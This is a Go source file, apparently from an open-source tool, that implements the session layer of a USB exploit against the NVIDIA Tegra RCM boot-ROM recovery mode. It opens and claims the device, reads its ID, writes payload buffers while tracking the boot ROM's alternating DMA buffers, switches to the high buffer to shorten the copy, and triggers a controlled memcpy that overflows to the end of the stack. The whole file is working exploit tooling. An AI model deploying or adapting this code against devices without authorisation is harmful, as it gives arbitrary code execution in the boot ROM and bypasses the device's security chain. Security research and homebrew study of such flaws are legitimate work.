package rcm

import (
	"context"
	"errors"
	"fmt"
	"time"

	"github.com/golang/glog"
	"github.com/google/gousb"

	"github.com/rcmhax/gelee/pkg/devices"
)

var (
	ErrNoDevice  = errors.New("no TegraRCM device found")
	ErrNoBackend = errors.New("no backend to trigger the vulnerability, it's likely your OS is not supported")
)

// Backend opens devices on the host's USB stack.
type Backend interface {
	// FindDevice opens the first attached device matching vid/pid. It
	// returns a nil Usb and a nil error if no such device is attached.
	FindDevice(vid, pid gousb.ID) (devices.Usb, error)
}

type Options struct {
	// VID and PID default to the RCM pair when zero.
	VID, PID gousb.ID
	// Wait makes Open poll until a device shows up, instead of failing
	// with ErrNoDevice.
	Wait bool
	// PollInterval defaults to 500ms.
	PollInterval time.Duration
	// Params overrides the parameters otherwise looked up by device kind.
	Params *Parameters
}

type Buffer int

const (
	BufferLow  Buffer = 0
	BufferHigh Buffer = 1
)

func (b Buffer) String() string {
	switch b {
	case BufferLow:
		return "low"
	case BufferHigh:
		return "high"
	}
	return "UNKNOWN"
}

// Session owns a claimed RCM device and mirrors the boot ROM's DMA buffer
// state. It is not safe for concurrent use.
type Session struct {
	Desc devices.Description
	P    *Parameters

	t       Transport
	current Buffer
	written int
}

// Open finds, opens and claims an RCM device.
func Open(ctx context.Context, b Backend, opts Options) (*Session, error) {
	if b == nil {
		return nil, ErrNoBackend
	}
	desc := devices.Describe(opts.VID, opts.PID)
	p := opts.Params
	if p == nil {
		p = ParametersForKind[desc.Kind]
	}
	if p == nil {
		return nil, fmt.Errorf("no parameters for %s", desc.Kind)
	}
	interval := opts.PollInterval
	if interval == 0 {
		interval = 500 * time.Millisecond
	}

	usb, err := b.FindDevice(desc.VID, desc.PID)
	if err != nil {
		return nil, fmt.Errorf("could not open %s: %w", desc, err)
	}
	if usb == nil {
		if !opts.Wait {
			return nil, ErrNoDevice
		}
		glog.Infof("Waiting for a TegraRCM device to come online...")
		for usb == nil {
			select {
			case <-ctx.Done():
				return nil, ctx.Err()
			case <-time.After(interval):
			}
			usb, err = b.FindDevice(desc.VID, desc.PID)
			if err != nil {
				return nil, fmt.Errorf("could not open %s: %w", desc, err)
			}
		}
	}

	if err := usb.UseDefaultInterface(); err != nil {
		usb.Close()
		return nil, fmt.Errorf("could not claim interface: %w", err)
	}
	glog.Infof("Opened %s", desc)

	return &Session{
		Desc: desc,
		P:    p,
		t: Transport{
			Usb: usb,
			P:   p,
		},
		// The first write into the boot ROM touches the low buffer.
		current: BufferLow,
	}, nil
}

// NewSession wraps an already claimed device.
func NewSession(usb devices.Usb, desc devices.Description, p *Parameters) *Session {
	return &Session{
		Desc:    desc,
		P:       p,
		t:       Transport{Usb: usb, P: p},
		current: BufferLow,
	}
}

// Usb returns the underlying device.
func (s *Session) Usb() devices.Usb {
	return s.t.Usb
}

// CurrentBuffer returns the DMA buffer the next write will land in.
func (s *Session) CurrentBuffer() Buffer {
	return s.current
}

// CurrentBufferAddress returns the base address of the current buffer.
func (s *Session) CurrentBufferAddress() uint32 {
	return s.P.CopyBufferAddrs[s.current]
}

// Written returns the total amount of bytes written in this session.
func (s *Session) Written() int {
	return s.written
}

// ReadDeviceID reads the device ID. This is only valid at the start of the
// communication, and is needed to get the boot ROM into the right state.
func (s *Session) ReadDeviceID() ([]byte, error) {
	return s.t.Read(s.P.DeviceIDLength)
}

// Write writes data to the RCM endpoint, one buffer at a time.
func (s *Session) Write(data []byte) error {
	for off := 0; off < len(data); off += s.P.ChunkSize {
		end := off + s.P.ChunkSize
		if end > len(data) {
			end = len(data)
		}
		if err := s.WriteSingleBuffer(data[off:end]); err != nil {
			return fmt.Errorf("buffer at 0x%x: %w", off, err)
		}
	}
	return nil
}

// WriteSingleBuffer writes a single RCM buffer and flips the active DMA
// buffer, paralleling what the boot ROM does.
func (s *Session) WriteSingleBuffer(data []byte) error {
	n, err := s.t.WriteSingleBuffer(data)
	if err != nil {
		return err
	}
	if n != len(data) {
		return fmt.Errorf("short write: %d of %d bytes", n, len(data))
	}
	s.written += n
	s.current = 1 - s.current
	glog.V(1).Infof("Wrote 0x%x bytes, next buffer is %s", n, s.current)
	return nil
}

// SwitchToHighBuf makes sure the next copy happens from the high DMA buffer,
// so that less has to be copied to reach the end of the stack.
func (s *Session) SwitchToHighBuf() error {
	if s.current == BufferHigh {
		return nil
	}
	return s.WriteSingleBuffer(make([]byte, s.P.ChunkSize))
}

// TriggerControlledMemcpy triggers the vulnerable memcpy. If length is zero,
// it is computed to span from the current buffer to the end of the stack.
func (s *Session) TriggerControlledMemcpy(length int) (TriggerOutcome, error) {
	if length == 0 {
		length = int(s.P.StackEnd - s.CurrentBufferAddress())
	}
	return s.t.TriggerVulnerability(length)
}

// Close releases the device.
func (s *Session) Close() error {
	return s.t.Usb.Close()
}
